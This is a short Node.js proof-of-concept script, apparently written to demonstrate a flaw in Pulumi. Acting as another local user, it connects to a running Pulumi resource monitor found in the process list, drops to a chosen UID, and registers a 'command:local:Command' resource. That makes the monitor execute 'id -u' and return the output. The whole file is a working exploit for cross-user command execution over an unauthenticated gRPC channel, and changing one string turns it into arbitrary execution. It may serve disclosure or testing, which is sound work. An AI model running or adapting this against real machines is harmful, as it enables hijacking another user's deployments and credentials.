// Another user of this machine, who found the monitor's address in the list of processes and asks it for a command.
// stranger.cjs ADDRESS UID: prints what came of it.
const grpc = require("@grpc/grpc-js");
const { ResourceMonitorClient } = require("@pulumi/pulumi/proto/resource_grpc_pb");
const { RegisterResourceRequest } = require("@pulumi/pulumi/proto/resource_pb");
const { Struct } = require("google-protobuf/google/protobuf/struct_pb");

const [address, uid] = process.argv.slice(2);
// Everything is loaded before: the project may lie where that user cannot read.
process.setgroups([]);
process.setgid(Number(uid));
process.setuid(Number(uid));

const request = new RegisterResourceRequest();
request.setType("command:local:Command");
request.setName("stolen");
request.setCustom(true);
request.setObject(Struct.fromJavaScript({ create: "id -u" }));
const client = new ResourceMonitorClient(address, grpc.credentials.createInsecure());
client.registerResource(request, (error, response) => {
    console.log(error ? error.details : `ran: ${JSON.stringify(response.getObject().toJavaScript().stdout)}`);
    client.close();
});
